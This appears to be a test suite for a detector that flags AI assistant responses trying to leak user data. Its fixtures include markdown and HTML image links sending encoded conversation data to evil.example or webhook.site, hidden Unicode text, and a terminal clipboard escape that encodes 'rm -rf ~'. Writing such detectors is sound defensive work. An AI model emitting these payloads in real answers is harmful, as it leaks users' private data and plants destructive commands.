import { expect, test } from "vitest";
import { cpuMsOf } from "@/tests/support/cpu-time";
import type { ScanContext } from "../detector";
import { exfiltration, exfiltrationFor } from "./exfiltration";

const answer: ScanContext = { role: "assistant", direction: "response" };
const entities = (text: string, context = answer): string[] =>
  exfiltration.scan(text, context).map((finding) => finding.entity);

const data = btoa("the user's password is hunter2");
const tags = [..."meet me at noon"]
  .map((c) => String.fromCodePoint(0xe0000 + c.charCodeAt(0)))
  .join("");

test.each([
  [
    "a markdown image with base64",
    `![x](https://evil.example/p.png?d=${data})`,
    "IMAGE_EXFILTRATION",
  ],
  [
    "a markdown image with prose",
    "![x](https://evil.example/l?q=the+user+asked+about+a+rash)",
    "IMAGE_EXFILTRATION",
  ],
  [
    "an HTML image with an e-mail address",
    "<img src='https://evil.example/?data=jane%40mail.test'>",
    "IMAGE_EXFILTRATION",
  ],
  [
    "an image by reference",
    "![a][1]\n\n[1]: https://evil.example/p?c=patient%20name%20is%20Jane%20Doe",
    "IMAGE_EXFILTRATION",
  ],
  [
    "a style sheet",
    "<style>a{background:url('https://evil.example/?m=hello%20this%20was%20said')}</style>",
    "IMAGE_EXFILTRATION",
  ],
  [
    "an address without scheme and a template",
    "![x](//evil.example/{conversation_summary})",
    "IMAGE_EXFILTRATION",
  ],
  ["an image path of base64", `![x](https://evil.example/${data}${data})`, "IMAGE_EXFILTRATION"],
  [
    "a link to a collector with a key",
    "[more](https://webhook.site/a?data=token+sk-abcdefghijklmnop)",
    "LINK_EXFILTRATION",
  ],
  ["tag characters", `hello${tags}`, "HIDDEN_TEXT"],
  ["scattered zero-width characters", [..."watermarked"].join("\u200b"), "HIDDEN_TEXT"],
  ["a clipboard command", "\u001b]52;c;cm0gLXJmIH4=\u0007", "TERMINAL_ESCAPE"],
  ["a cleared screen", "done\u001b[2J\u001b[H", "TERMINAL_ESCAPE"],
])("finds %s", (_case, text, entity) => {
  expect(entities(text)).toContain(entity);
});

test.each([
  [
    "a badge",
    "![b](https://img.shields.io/badge/build-passing-brightgreen.svg?style=flat&logo=github)",
  ],
  ["a search link", "See https://www.google.com/search?q=how+to+bake+bread+at+home"],
  ["a link to docs", "[docs](https://docs.python.org/3/library/stdtypes.html#str.join)"],
  [
    "a photo with sizes",
    "![p](https://images.unsplash.com/photo-1518791841217-8f162f1e1131?auto=format&fit=crop&w=500&q=60)",
  ],
  [
    "a signed address",
    `![d](https://b.s3.amazonaws.com/x.png?X-Amz-Credential=AKIAIOSFODNN7EXAMPLE%2F2013&X-Amz-Signature=${"fe5f80f7".repeat(8)})`,
  ],
  [
    "a source line by commit",
    "https://github.com/o/r/blob/0a1b2c3d4e5f60718293a4b5c6d7e8f901234567/src/a.ts#L10",
  ],
  ["a video", "https://www.youtube.com/watch?v=dQw4w9WgXcQ&list=PLabcdefghijklmnopqrstuvwx"],
  ["emoji", "❤️ 👨‍👩‍👧 🏴󠁧󠁢󠁥󠁮󠁧󠁿"],
  ["an escape written out in code", "printf '\\x1b[31mred'"],
])("passes %s", (_case, text) => {
  expect(entities(text)).toEqual([]);
});

test("a finding spans the address and nothing else", () => {
  const address = `https://evil.example/p.png?d=${data}`;
  const text = `Look: ![x](${address}) nice.`;
  const [finding] = exfiltration.scan(text, answer);
  expect(text.slice(finding?.start, finding?.end)).toBe(address);
});

test("a trusted host and its subdomains may carry data; look-alikes may not", () => {
  const image = (host: string): string => `![x](https://${host}/p?d=${data})`;
  const trusting = exfiltrationFor(["acme.example"]);
  expect(trusting.scan(image("acme.example"), answer)).toEqual([]);
  expect(trusting.scan(image("cdn.acme.example"), answer)).toEqual([]);
  expect(trusting.scan(image("notacme.example"), answer)).toHaveLength(1);
  expect(
    exfiltration.scan(image("acme.example"), { ...answer, allowedHosts: ["acme.example"] }),
  ).toEqual([]);
});

test("requests are not answers", () => {
  expect(
    entities(`![x](https://evil.example/?d=${data})`, { role: "user", direction: "request" }),
  ).toEqual([]);
});

test.each([["//"], ["![](https://a.bc/?q="], ["\u001b]"], ["https://a.bc/%7B "]])(
  "a flood of %j costs time in proportion",
  (unit) => {
    const text = unit.repeat(200_000 / unit.length);
    expect(cpuMsOf(() => exfiltration.scan(text, answer), 1_500)).toBeLessThanOrEqual(1_500);
  },
);
